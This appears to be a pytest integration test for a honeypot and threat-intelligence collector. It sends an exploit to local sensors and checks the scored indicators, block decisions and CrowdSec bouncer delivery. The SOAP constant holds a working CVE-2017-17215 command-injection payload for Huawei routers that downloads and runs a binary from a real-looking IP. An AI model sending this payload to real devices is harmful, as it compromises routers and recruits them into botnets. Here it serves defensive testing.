"""The whole loop over loopback: two real sensors in two locations see the same exploit, the
collector turns it into scored indicators and guarded decisions, and a real CrowdSec bouncer
receives a decision and its deletion."""

from __future__ import annotations

import math
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from honeyguard.intel.params import load_params
from tests.conftest import free_port, tool
from tests.server.helpers import CollectorProcess, honeyguard, write_config

MALWARE_HOST = "91.92.240.10"  # globally routable, never contacted: it only appears inside a payload
SOAP = ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade '
        'xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g '
        f'{MALWARE_HOST} -l /tmp/mips -r /bins/mips; chmod +x /tmp/mips; /tmp/mips huawei)</NewStatusURL>'
        '<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>')


def _wait(predicate: Callable[[], Any], what: str, timeout: float = 90) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.2)


def _start_sensor(root: Path, name: str, location: str,
                  collector: CollectorProcess) -> tuple[subprocess.Popen[bytes], int]:
    token = collector.add_sensor(name)
    port = free_port()
    folder = root / name
    extra = (f"sensor:\n  name: {name}\n  location: {location}\n  listeners:\n"
             f"    - {{service: http, port: {port}}}\n"
             f"  collector: {{url: '{collector.url}', token: '{token}', flush_interval: 0.1}}\n")
    config = write_config(folder, free_port(), extra=extra)
    config.write_text(config.read_text().replace("detect:\n  enabled: false\n", ""))  # detection on
    ready, log = folder / "ready", folder / "log"
    with log.open("wb") as out:
        proc = subprocess.Popen([sys.executable, "-m", "honeyguard.cli.main", "sensor", "run", "--config",
                                 str(config), "--ready-file", str(ready)], stdout=out, stderr=subprocess.STDOUT)
    _wait(lambda: ready.exists() or proc.poll() is not None, f"sensor {name}", 180)
    assert proc.poll() is None, log.read_text()
    return proc, port


@pytest.fixture
def stack(tmp_path: Path) -> Iterator[tuple[CollectorProcess, list[int]]]:
    collector = CollectorProcess(tmp_path / "collector").start()
    sensors = [_start_sensor(tmp_path, "edge-eu", "eu-west-1", collector),
               _start_sensor(tmp_path, "edge-us", "us-east-1", collector)]
    try:
        yield collector, [port for _, port in sensors]
    finally:
        for proc, _ in sensors:
            proc.send_signal(signal.SIGTERM)
            proc.wait(60)
        collector.stop()


def _api(collector: CollectorProcess, path: str, **params: Any) -> Any:
    response = httpx.get(collector.url + path, params=params, timeout=30, trust_env=False)
    return response.json() if response.status_code == 200 else None


def test_two_sensors_make_a_verified_malware_host_and_a_guarded_drop(stack: tuple[CollectorProcess, list[int]]) -> None:
    collector, ports = stack
    for port in ports:
        done = subprocess.run([tool("curl"), "-s", "-o", "/dev/null", "-w", "%{http_code}", "-X", "POST",
                               "-H", 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway"',
                               "--data-binary", SOAP, f"http://127.0.0.1:{port}/ctrlt/DeviceUpgrade_1"],
                              capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0
    host = _wait(lambda: [i for i in (_api(collector, f"/api/v1/indicators/{MALWARE_HOST}") or [])
                          if i["indicator"]["state"] == "verified"], "a verified malware host")[0]
    indicator = host["indicator"]
    assert indicator["roles"] == ["malware-host"] and indicator["cves"] == ["CVE-2017-17215"]
    assert indicator["sensors"] == ["edge-eu", "edge-us"] and indicator["locations"] == ["eu-west-1", "us-east-1"]
    params = load_params()
    p = min(params.source_cap, 1 - math.exp(-params.strength_of("revealed")))
    assert indicator["confidence"] == round(100 * (1 - (1 - p) ** 2))  # noisy-OR of two sensors (docs/intel.md)

    attacker = _api(collector, "/api/v1/indicators/127.0.0.1")[0]["indicator"]
    assert "exploiter" in attacker["roles"] and attacker["state"] == "verified"

    def decided(value: str) -> list[dict[str, Any]]:
        return (_api(collector, f"/api/v1/decisions/{value}") or {}).get("decisions", [])

    drop = _wait(lambda: [d for d in decided(MALWARE_HOST) if d["action"] == "drop"], "a drop")[0]
    assert drop["direction"] == "egress" and drop["withdrawn_at"] is None
    assert {c["check"] for c in drop["trace"]} >= {"never-block", "corroboration", "blast-radius", "hourly-budget"}
    refused = _wait(lambda: decided("127.0.0.1"), "the loopback decision")[0]
    assert refused["action"] == "none"
    never = next(c for c in refused["trace"] if c["check"] == "never-block")
    assert never["verdict"] == "fail" and "loopback" in never["detail"]
    explained = honeyguard("decisions", "explain", "127.0.0.1", "--config", str(collector.config))
    assert explained.returncode == 0 and "never-block" in explained.stdout and "loopback" in explained.stdout
    blocklist = httpx.get(collector.url + "/api/v1/blocklist/nftables", timeout=30, trust_env=False).text
    assert f"{MALWARE_HOST}/32" in blocklist.split("set egress_v4")[1].split("}")[0]


BOUNCER_CONFIG = """bin_path: {script}
feed_via_stdin: false
total_retries: 0
scenarios_containing: []
scenarios_not_containing: []
origins: []
piddir: {dir}
update_frequency: 1s
cache_retention_duration: 1s
daemonize: false
log_mode: stdout
log_level: info
api_url: {url}/
api_key: {key}
prometheus:
  enabled: false
"""


def test_a_real_crowdsec_bouncer_receives_a_decision_and_its_deletion(tmp_path: Path) -> None:
    collector = CollectorProcess(tmp_path / "collector").start()
    seen = tmp_path / "seen.log"
    script = tmp_path / "record.sh"
    script.write_text(f'#!/bin/sh\necho "$1 $2" >> {seen}\n')
    script.chmod(0o755)
    key = honeyguard("bouncer", "add", "custom-1", "--config", str(collector.config)).stdout.strip()
    config = tmp_path / "bouncer.yaml"
    config.write_text(BOUNCER_CONFIG.format(script=script, dir=tmp_path, url=collector.url, key=key))
    bouncer = subprocess.Popen([tool("crowdsec-custom-bouncer"), "-c", str(config)], stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT)
    try:
        added = honeyguard("decisions", "add", "45.142.120.7", "--duration", "4h", "--reason", "test",
                           "--config", str(collector.config))
        assert added.returncode == 0, added.stderr
        _wait(lambda: seen.exists() and "add 45.142.120.7" in seen.read_text(), "the bouncer to add", 60)
        deleted = honeyguard("decisions", "delete", "45.142.120.7", "--config", str(collector.config))
        assert deleted.returncode == 0, deleted.stderr
        _wait(lambda: "del 45.142.120.7" in seen.read_text(), "the bouncer to delete", 60)
    finally:
        bouncer.terminate()
        out = bouncer.communicate(timeout=30)[0].decode(errors="replace")
        collector.stop()
    assert "401" not in out and "403" not in out, out
